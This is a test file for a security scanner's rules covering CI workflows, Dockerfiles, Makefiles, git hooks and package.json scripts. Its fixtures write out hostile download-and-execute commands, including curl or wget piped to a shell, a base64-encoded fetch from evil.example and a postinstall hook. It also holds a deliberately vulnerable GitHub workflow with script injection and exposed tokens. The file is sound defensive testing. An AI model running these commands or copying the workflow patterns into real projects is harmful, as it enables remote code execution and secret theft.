import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { at, diffFile, ofRule, scanFile } from './scanHelpers';

const BASE_WORKFLOW = `name: CI
on:
  push:
    branches: [main]
  pull_request:

permissions:
  contents: read

jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
      - uses: actions/setup-node@39370e3970a6d050c480ffad4ff0ed4d3fdee5af # v4.1.0
        with:
          node-version: 20
      - run: npm ci
      - run: npm test
`;

describe('files/download-and-execute', () => {
  it('reports a new curl | bash step at high, with the line', async () => {
    const after = BASE_WORKFLOW.replace('      - run: npm ci\n', '      - run: curl -sSL https://example.com/x.sh | bash\n      - run: npm ci\n');
    const findings = ofRule(await diffFile('.github/workflows/ci.yml', BASE_WORKFLOW, after), 'files/download-and-execute');
    assert.equal(findings.length, 1);
    assert.equal(findings[0].severity, 'high');
    assert.deepEqual(at(findings[0]), [18, 14]);
    assert.equal(findings[0].evidence, '- run: curl -sSL https://example.com/x.sh | bash');
  });

  it('reports wget piped to sudo sh in a Dockerfile and bash <(curl) in a Makefile', async () => {
    const dockerfile = 'FROM node:20-slim\nRUN apt-get update && apt-get install -y wget\nRUN wget -qO- https://get.example.dev/install | sudo -E sh\nCOPY . /app\n';
    assert.equal(ofRule(await scanFile('Dockerfile', dockerfile), 'files/download-and-execute').length, 1);
    const makefile = 'setup:\n\tbash <(curl -fsSL https://example.com/bootstrap.sh)\n\ntest:\n\tnpm test\n';
    assert.equal(ofRule(await scanFile('Makefile', makefile), 'files/download-and-execute').length, 1);
  });

  it('reports base64-decoded payloads piped into a shell', async () => {
    const hook = '#!/bin/sh\necho Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo= | base64 -d | sh\n';
    const findings = ofRule(await scanFile('.husky/pre-commit', hook), 'files/download-and-execute');
    assert.equal(findings.length, 1);
    assert.match(findings[0].message, /decodes hidden data/);
  });

  it('does not report downloads that are saved and checked, comments, or an existing step in diff mode', async () => {
    const safe = BASE_WORKFLOW.replace('      - run: npm ci\n', '      # never do: curl https://x | sh\n      - run: curl -sSLo tool.tgz https://example.com/tool-1.2.3.tgz && sha256sum -c tool.sha256 || exit 1\n      - run: npm ci\n');
    assert.deepEqual(ofRule(await scanFile('.github/workflows/ci.yml', safe), 'files/download-and-execute'), []);
    const withPipe = BASE_WORKFLOW.replace('      - run: npm ci\n', '      - run: curl -sSL https://example.com/x.sh | bash\n      - run: npm ci\n');
    const moreSteps = withPipe.replace('      - run: npm test\n', '      - run: npm test\n      - run: npm run lint\n');
    assert.deepEqual(ofRule(await diffFile('.github/workflows/ci.yml', withPipe, moreSteps), 'files/download-and-execute'), []);
  });

  it('leaves a package.json install hook to dependencies/install-script, but reports the same download in an ordinary script', async () => {
    const before = JSON.stringify({ name: 'api', version: '1.0.0', scripts: { test: 'node --test' } }, null, 2) + '\n';
    const withHook = JSON.stringify({ name: 'api', version: '1.0.0', scripts: { test: 'node --test', postinstall: 'curl -fsSL https://get.example.dev/setup.sh | sh' } }, null, 2) + '\n';
    const hookFindings = await diffFile('package.json', before, withHook);
    assert.deepEqual(ofRule(hookFindings, 'files/download-and-execute'), []);
    assert.equal(ofRule(hookFindings, 'dependencies/install-script').length, 1, 'the hook is still reported once, by the rule that names it');
    const withScript = JSON.stringify({ name: 'api', version: '1.0.0', scripts: { test: 'node --test', bootstrap: 'curl -fsSL https://get.example.dev/setup.sh | sh' } }, null, 2) + '\n';
    assert.equal(ofRule(await diffFile('package.json', before, withScript), 'files/download-and-execute').length, 1);
  });

  it('stays fast on a hostile line of curl words and pipes', async () => {
    const hostile = `run: ${'curl |'.repeat(40_000)}\n`;
    const started = performance.now();
    await scanFile('.github/workflows/x.yml', hostile);
    assert.ok(performance.now() - started < 2000);
  });
});

const ISSUE_BOT = `name: Triage
on:
  issue_comment:
    types: [created]
  pull_request_target:
    types: [opened, synchronize]

permissions: write-all

jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          ref: \${{ github.event.pull_request.head.sha }}
      - name: Label
        env:
          NUMBER: \${{ github.event.issue.number }}
        run: |
          echo "Triage of \${{ github.event.issue.title }}"
          gh issue edit "$NUMBER" --add-label triage
      - name: Build the PR
        run: npm ci && npm run build
        env:
          NPM_TOKEN: \${{ secrets.NPM_TOKEN }}
      - uses: some-org/notify-action@main
        with:
          token: \${{ secrets.SLACK_TOKEN }}
          text: \${{ github.event.comment.body }}
`;

describe('GitHub workflow content rules', () => {
  it('files/workflow-script-injection reports event data in run: at its exact column', async () => {
    const findings = ofRule(await scanFile('.github/workflows/triage.yml', ISSUE_BOT), 'files/workflow-script-injection');
    assert.equal(findings.length, 1);
    assert.deepEqual(at(findings[0]), [21, 27]);
    assert.equal(findings[0].severity, 'high');
    assert.match(findings[0].message, /github\.event\.issue\.title/);
  });

  it('files/workflow-script-injection leaves env: indirection alone', async () => {
    const safe = ISSUE_BOT.replace('echo "Triage of ${{ github.event.issue.title }}"', 'echo "Triage of $TITLE"');
    assert.deepEqual(ofRule(await scanFile('.github/workflows/triage.yml', safe), 'files/workflow-script-injection'), []);
  });

  it('files/workflow-pull-request-target reports a checkout of the PR head', async () => {
    const findings = ofRule(await scanFile('.github/workflows/triage.yml', ISSUE_BOT), 'files/workflow-pull-request-target');
    assert.equal(findings.length, 1);
    assert.equal(findings[0].range.startLine, 16);
    assert.match(findings[0].message, /pull_request_target/);
  });

  it('files/workflow-pull-request-target stays quiet for the pull_request trigger', async () => {
    const safe = ISSUE_BOT.replace('  pull_request_target:', '  pull_request:').replace('  issue_comment:\n    types: [created]\n', '');
    assert.deepEqual(ofRule(await scanFile('.github/workflows/triage.yml', safe), 'files/workflow-pull-request-target'), []);
  });

  it('files/workflow-secrets-untrusted reports secrets in steps after a PR-head checkout or next to comment bodies', async () => {
    const findings = ofRule(await scanFile('.github/workflows/triage.yml', ISSUE_BOT), 'files/workflow-secrets-untrusted');
    assert.deepEqual(findings.map((f) => f.range.startLine), [26, 29]);
    assert.match(findings[0].message, /secrets\.NPM_TOKEN.*after a checkout of the pull request head/);
  });

  it('files/workflow-unpinned-action reports tags and branches, lower for first-party actions', async () => {
    const findings = ofRule(await scanFile('.github/workflows/triage.yml', ISSUE_BOT), 'files/workflow-unpinned-action');
    assert.deepEqual(findings.map((f) => [f.range.startLine, f.severity]), [[14, 'low'], [27, 'medium']]);
    assert.deepEqual(ofRule(await scanFile('.github/workflows/ci.yml', BASE_WORKFLOW), 'files/workflow-unpinned-action'), []);
  });

  it('files/workflow-write-all reports permissions: write-all', async () => {
    const findings = ofRule(await scanFile('.github/workflows/triage.yml', ISSUE_BOT), 'files/workflow-write-all');
    assert.equal(findings.length, 1);
    assert.deepEqual(at(findings[0]), [8, 14]);
  });

  it('reads a composite action the same way', async () => {
    const action = 'name: setup\nruns:\n  using: composite\n  steps:\n    - uses: third/party@v1\n    - shell: bash\n      run: echo "${{ github.head_ref }}"\n';
    const findings = await scanFile('.github/actions/setup/action.yml', action);
    assert.deepEqual(findings.map((f) => f.ruleId).filter((id) => id.startsWith('files/workflow')).sort(), ['files/workflow-script-injection', 'files/workflow-unpinned-action']);
  });

  it('survives a half-written workflow', async () => {
    await scanFile('.github/workflows/broken.yml', 'on: [push\njobs:\n  a: {steps: [run: "x"\n');
  });
});
